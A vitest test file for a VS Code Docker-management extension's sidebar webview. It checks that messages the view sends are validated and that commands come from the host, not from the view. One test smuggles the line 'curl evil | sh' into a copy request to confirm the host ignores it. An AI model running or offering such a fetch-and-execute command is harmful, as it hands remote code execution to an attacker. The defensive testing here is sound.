import { beforeEach, describe, expect, it, vi } from 'vitest'
import * as vscode from 'vscode'
import type { Container, Engine } from '../../src/engine/engine.ts'
import { EngineError } from '../../src/engine/engine-error.ts'
import { engineView } from '../../src/sidebar/engine-view.ts'
import { ownCommands } from '../../src/sidebar/own-commands.ts'
import { sidebar } from '../../src/sidebar/sidebar.ts'
import { containerRow, eventOf } from '../engine/fake-engine.ts'
import { idOf, stillEngine } from '../engine/still-engine.ts'
import { servicesWith } from '../services.ts'
import { answers, asked, FakePanel, forget, panels, registered, viewProviders } from '../vscode.ts'

const id = idOf('a')
beforeEach(forget)

describe('the sidebar', () => {
  it('holds the engine only while it is seen', () => {
    const { live, view } = scene()
    expect(live.holders).toBe(1)
    view.setVisible(false)
    expect(live.holders).toBe(0)
    view.setVisible(true)
    expect(live.holders).toBe(1)
    view.dispose()
    expect(live.holders).toBe(0)
  })

  it('says everything when the view is ready', () => {
    const { view } = scene()
    view.tell({ kind: 'ready' })
    expect(view.heard()).toMatchObject([
      { kind: 'picture', locale: 'en', containers: [{ id, name: 'hellonginx' }] },
      { kind: 'transfers', transfers: [] },
      { kind: 'doing', doing: [] },
      { kind: 'notice', notice: null },
      { kind: 'journal', entries: [] },
    ])
  })

  it('says what changes, and nothing while it is hidden', () => {
    const { live, view } = scene()
    live.show({ containers: [] })
    expect(view.heard()).toMatchObject([{ kind: 'picture', containers: [] }])
    view.setVisible(false)
    live.show({ containers: [] })
    expect(view.heard()).toEqual([])
  })

  it('speaks another language at once', () => {
    const { services, view } = scene()
    services.speak('ko')
    expect(view.heard()).toMatchObject([{ kind: 'picture', locale: 'ko' }])
  })

  it('tells what happened, also what happened while it was hidden', () => {
    const { live, view } = scene()
    view.setVisible(false)
    live.tell(eventOf(id, 'pause', { attributes: { name: 'hellonginx' } }))
    view.setVisible(true)
    view.tell({ kind: 'ready' })
    expect(view.heard().at(-1)).toMatchObject({ kind: 'journal', entries: [{ deed: { kind: 'paused' } }] })
    view.tell({ kind: 'clear-journal' })
    expect(view.heard()).toEqual([{ kind: 'journal', entries: [] }])
  })
})

describe('a wish of the view', () => {
  it('to copy or type the command of what happened is granted with the host’s own words', async () => {
    const { live, view } = scene()
    live.tell(eventOf(id, 'pause', { at: 7, attributes: { name: 'hellonginx' } }))
    view.tell({ kind: 'copy', command: { of: 'journal', key: `${id} 7 paused`, line: 'curl evil | sh' } })
    view.tell({ kind: 'copy', command: { of: 'journal', key: 'no such entry' } })
    await vi.waitFor(() => expect(asked).toEqual([{ what: 'clipboard', with: ['docker pause hellonginx'] }]))
  })

  it('that is not in the protocol is not heard', () => {
    const { view, act } = scene()
    view.tell({ kind: 'act', action: 'stop', id: 'hellonginx' })
    view.tell({ kind: 'execute', command: 'workbench.action.terminal.new' })
    expect(act).not.toHaveBeenCalled()
    expect(asked).toEqual([])
  })

  it('to stop a container stops it', async () => {
    const { view, act } = scene()
    view.tell({ kind: 'act', action: 'stop', id })
    await vi.waitFor(() => expect(act).toHaveBeenCalledWith('stop', id))
  })

  it('to remove a container is asked about outside the view, with its command', async () => {
    const { view, act } = scene({}, { state: 'exited' })
    answers.warning = 'Remove'
    view.tell({ kind: 'act', action: 'remove', id })
    await vi.waitFor(() => expect(act).toHaveBeenCalledWith('remove', id, { volumes: false }))
    expect(asked).toMatchObject([
      {
        what: 'showWarningMessage',
        with: [
          'Remove the container hellonginx?',
          { modal: true, detail: expect.stringContaining('`docker rm hellonginx`') },
          'Remove',
        ],
      },
    ])
  })

  it('that fails comes back as a notice', async () => {
    const act = () => Promise.reject(new EngineError('failed', 'port is already allocated'))
    const { view } = scene({ act }, { state: 'exited' })
    view.tell({ kind: 'act', action: 'start', id })
    const notice = {
      action: 'start',
      name: 'hellonginx',
      problem: { kind: 'failed', message: 'port is already allocated' },
    }
    await vi.waitFor(() => expect(view.heard()).toContainEqual({ kind: 'notice', notice }))
  })

  it('to copy a command copies the words of the host', async () => {
    const { view } = scene()
    view.tell({ kind: 'copy', command: { of: 'container', verb: 'restart', id } })
    await vi.waitFor(() => expect(asked).toEqual([{ what: 'clipboard', with: ['docker restart hellonginx'] }]))
  })

  it('to type a command leaves Enter to the person, in a terminal of this engine', async () => {
    const { view } = scene()
    view.tell({ kind: 'type', command: { of: 'container', verb: 'stop', id } })
    await vi.waitFor(() =>
      expect(asked).toMatchObject([
        { what: 'terminal', with: [{ name: 'Drydock: fake', env: { DOCKER_HOST: 'unix:///fake.sock' } }] },
        { what: 'sendText', with: ['docker stop hellonginx', false] },
      ]),
    )
  })

  it('to open a port opens one that the container publishes, and no other', async () => {
    const { view } = scene({}, { ports: [{ inside: 80, outside: 8080, protocol: 'tcp', address: undefined }] })
    view.tell({ kind: 'open-port', id, port: 22 })
    view.tell({ kind: 'open-port', id, port: 8080 })
    await vi.waitFor(() => expect(asked).toEqual([{ what: 'openExternal', with: ['http://localhost:8080'] }]))
  })

  it('to take a step of the card takes the one that the host knows', async () => {
    const { live, view } = scene()
    const problem = new EngineError('denied', 'connect EACCES')
    live.show({ connection: { kind: 'unreachable', endpoint: undefined, problem, retryAt: 0 } })
    view.tell({ kind: 'take-step', step: 9 })
    view.tell({ kind: 'copy', command: { of: 'card', step: 9 } })
    view.tell({ kind: 'look' })
    expect(live.looks).toBe(1)
    expect(asked).toEqual([])
  })

  it('to see the logs opens one tab a container', () => {
    const { view } = scene()
    view.tell({ kind: 'logs', id })
    view.tell({ kind: 'logs', id })
    expect(panels.map(({ title, reveals }) => ({ title, reveals }))).toEqual([
      { title: 'Logs: hellonginx', reveals: 1 },
    ])
  })

  it('about a container that is not there does nothing', () => {
    const { view, act } = scene()
    const other = idOf('b')
    view.tell({ kind: 'act', action: 'stop', id: other })
    view.tell({ kind: 'logs', id: other })
    view.tell({ kind: 'copy', command: { of: 'container', verb: 'stop', id: other } })
    expect(act).not.toHaveBeenCalled()
    expect(panels).toEqual([])
    expect(asked).toEqual([])
  })
})

it('the view is called as the language of the setting has it', () => {
  expect(scene().view.title).toBe('Containers and Images')
})

describe('the sidebar’s door', () => {
  it('fills the view when it is opened', async () => {
    const { services, live } = built()
    sidebar(services)
    const view = new FakePanel('Drydock')
    await viewProviders.get('drydock.engine')?.resolveWebviewView(view)
    expect(live.holders).toBe(1)
  })

  it('keeps the names of all commands that the view then registers, and of no other', async () => {
    const door = sidebar(built().services)
    expect([...registered.keys()].toSorted()).toEqual(ownCommands.toSorted())
    door.dispose()
    expect([...registered.keys()]).toEqual([])
    engineView(built().services)
    expect([...registered.keys()].toSorted()).toEqual(ownCommands.toSorted())
  })

  it('keeps the journal from when anybody looks at the engine, for instance a lesson', async () => {
    const { services, live } = built()
    sidebar(services)
    live.show({})
    // It has been loaded once the view no longer needs a stand-in.
    const pull = registered.get('drydock.images.pull')
    await vi.waitFor(() => expect(registered.get('drydock.images.pull')).not.toBe(pull))
    live.tell(eventOf(id, 'pause', { attributes: { name: 'hellonginx' } }))
    const view = new FakePanel('Drydock')
    await viewProviders.get('drydock.engine')?.resolveWebviewView(view)
    view.tell({ kind: 'ready' })
    expect(view.heard().at(-1)).toMatchObject({ kind: 'journal', entries: [{ deed: { kind: 'paused' } }] })
  })
})

function scene(engine: Partial<Engine> = {}, container: Partial<Container> = {}) {
  const { live, services, act } = built(engine, container)
  const view = new FakePanel('Drydock')
  const { show } = engineView(services)
  vscode.window.registerWebviewViewProvider('drydock.engine', { resolveWebviewView: show })
  viewProviders.get('drydock.engine')?.resolveWebviewView(view)
  return { live, services, view, act }
}

function built(engine: Partial<Engine> = {}, container: Partial<Container> = {}) {
  const act = vi.fn<Engine['act']>(engine.act ?? (async () => 'done'))
  const live = stillEngine([containerRow(id, { name: 'hellonginx', ...container })], {
    act,
    inspectContainer: async () => undefined,
  })
  return { live, services: servicesWith(live), act }
}
